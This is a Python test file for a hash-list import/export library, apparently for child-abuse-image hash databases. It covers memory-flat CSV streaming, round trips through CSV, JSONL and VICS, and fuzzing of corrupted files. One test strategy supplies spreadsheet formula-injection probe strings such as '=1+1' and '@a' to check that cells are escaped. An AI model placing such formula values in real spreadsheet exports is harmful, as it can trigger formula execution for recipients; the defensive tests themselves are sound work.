def test_csv_reading_200k_rows_keeps_memory_flat(monkeypatch):
    """200,000 rows from a generator: the stream is never read more than a chunk or so
    ahead of the rows, allocated blocks stay level over the whole run, and tracemalloc,
    on for 2,000 rows in every 20,000 (on throughout, it would quadruple the time), sees
    a small peak and nothing kept from one row to the next."""
    rows, every, window = 200_000, 20_000, 2_000
    # build_record is the slow part of a row and keeps nothing from one row to the next;
    # a stand-in keeps this test quick. The reader is the real one.
    stand_in = EntryRecord(hashes={"md5": MD5})
    monkeypatch.setattr(base, "build_record", lambda fields: stand_in)
    plain = b"%032x,\r\n"
    # Now and then a quoted cell over two lines.
    video = b'%032x,"0,100,' + PDQ.encode() + b",0.000\r\n1,100," + PDQ.encode() + b',1.000"\r\n'
    header = b"md5,video\r\n"
    plain_size, video_size = len(plain % 0), len(video % 0)

    def generated() -> Iterator[bytes]:
        yield header
        for block in range(0, rows, 500):
            numbers = range(block, min(block + 500, rows))
            yield b"".join((video if n % 97 == 0 else plain) % n for n in numbers)

    stream = GeneratedStream(generated())
    count, consumed, ahead = 0, len(header), 0
    peaks, kept, blocks = [], [], []
    tracemalloc.start()
    try:
        for result in formats.read("csv", stream):  # type: ignore[arg-type]
            assert result.record is stand_in
            consumed += video_size if count % 97 == 0 else plain_size
            ahead = max(ahead, stream.produced - consumed)
            count += 1
            if count % every == window:
                current, peak = tracemalloc.get_traced_memory()
                tracemalloc.stop()
                kept.append(current)
                peaks.append(peak)
                blocks.append(sys.getallocatedblocks())
            elif count % every == 0:
                tracemalloc.start()
    finally:
        tracemalloc.stop()
    assert count == rows
    assert stream.produced == consumed  # the whole file went through
    assert ahead <= 2 * 65536  # never more than a chunk or so ahead of the rows
    assert len(peaks) == rows // every
    assert max(peaks) < 1_000_000, peaks
    # Rows kept would show here: 2,000 rows take some 600 kB, 200,000 over 100,000 blocks.
    assert max(kept[1:]) < 100_000, kept
    assert max(blocks) - min(blocks) < 5_000, blocks


@pytest.mark.parametrize("fmt", ["jsonl", "vics"])
def test_json_formats_read_in_step_with_the_stream(fmt):
    rows = 8_000

    def records() -> Iterator[EntryRecord]:
        for number in range(rows):
            yield build_record({"md5": f"{number:032x}", "external_id": str(number)})

    data = write_bytes(fmt, records())
    size = len(data)
    chunks = (data[i : i + 4096] for i in range(0, size, 4096))
    stream = GeneratedStream(chunks)
    for count, result in enumerate(formats.read(fmt, stream), start=1):  # type: ignore[arg-type]
        assert result.ok
        # What was read is what the rows so far take, a chunk or two ahead at most.
        assert stream.produced <= count * size / rows + 3 * 65536
    assert stream.produced == size


# --- write then read is the identity -------------------------------------------------------


def _text(min_size: int = 0) -> st.SearchStrategy[str]:
    tricky = st.sampled_from(["=1+1", "+x", "-", "@a", "'=q", "''-", "'", '"', ",", "a\u2028b"])
    plain = st.text(
        st.characters(codec="utf-8", exclude_characters="".join(map(chr, range(32)))),
        min_size=min_size,
        max_size=30,
    )
    return st.one_of(plain, tricky, st.tuples(tricky, plain).map("".join))


def _hex(size: int) -> st.SearchStrategy[str]:
    return st.binary(min_size=size, max_size=size).map(bytes.hex)


@st.composite
def _video(draw: st.DrawFn) -> str:
    steps = draw(st.lists(st.integers(1, 90), min_size=1, max_size=4))
    lines, number = [], 0
    for step in steps:
        number += step
        quality = draw(st.integers(0, 100))
        lines.append(f"{number},{quality},{draw(_hex(32))},{number / 30:.3f}")
    return "\n".join(lines)


def _maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.none() | strategy


_HASHES = {
    "md5": _hex(16),
    "sha1": _hex(20),
    "sha256": _hex(32),
    "pdq": _hex(32),
    "video": _video(),
    "photodna": st.binary(min_size=144, max_size=144).map(lambda b: base64.b64encode(b).decode()),
}

_records = st.fixed_dictionaries(
    {},
    optional={
        **_HASHES,
        "external_id": _text() | st.integers(0, 10**20).map(str),
        "grade": _maybe(st.sampled_from(list(grading.GRADES))),
        "uk_category": _maybe(st.sampled_from([*grading.UK_CATEGORIES, grading.UK_PROHIBITED])),
        "interpol_baseline": _maybe(st.booleans()),
        "vics_category": _maybe(st.integers(0, 4)),
        "age_band": _maybe(st.sampled_from(list(grading.AGE_BANDS))),
        "non_photographic": st.booleans(),
        "victim_identified": _maybe(st.booleans()),
        "offender_identified": _maybe(st.booleans()),
        "series": _text(),
        "confirmed_by_police": _maybe(st.booleans()),
        "first_seen": _maybe(st.dates(dt.date(1970, 1, 1), dt.date(2100, 1, 1))),
        "provenance": _text(),
        "retired": st.booleans(),
        "retired_reason": _text(),
        "pdq_quality": _maybe(st.integers(0, 100)),
    },
).filter(lambda fields: any(name in fields for name in HASH_TYPES))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_records.map(build_record), min_size=1, max_size=4))
def test_write_then_read_is_the_identity(records):
    for fmt, options in WRITES:
        results = read_bytes(fmt, write_bytes(fmt, records, **options))
        assert [result.errors for result in results] == [[]] * len(records), fmt
        assert records_of(results) == records, (fmt, options)


# --- mangled files never raise but FormatError -----------------------------------------


_SEEDS = [
    write_bytes(fmt, [full_record(), build_record({"md5": MD5_B, "series": "s"})], **options)
    for fmt, options in WRITES
]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.sampled_from(_SEEDS),
    edits=st.lists(
        st.tuples(st.integers(0, 4000), st.integers(0, 8), st.binary(max_size=6)), max_size=6
    ),
    fmt=st.sampled_from(formats.FORMATS),
    limit=st.integers(64, 5000),
)
def test_mangled_files_give_bad_rows_or_a_format_error_and_nothing_else(seed, edits, fmt, limit):
    data = bytearray(seed)
    for at, cut, insert in edits:
        at %= len(data) + 1
        data[at : at + cut] = insert
    try:
        results = read_bytes(fmt, bytes(data), max_row_bytes=limit)
    except FormatError:
        return
    for result in results:
        assert result.position >= 1
        assert (result.record is None) == bool(result.errors)
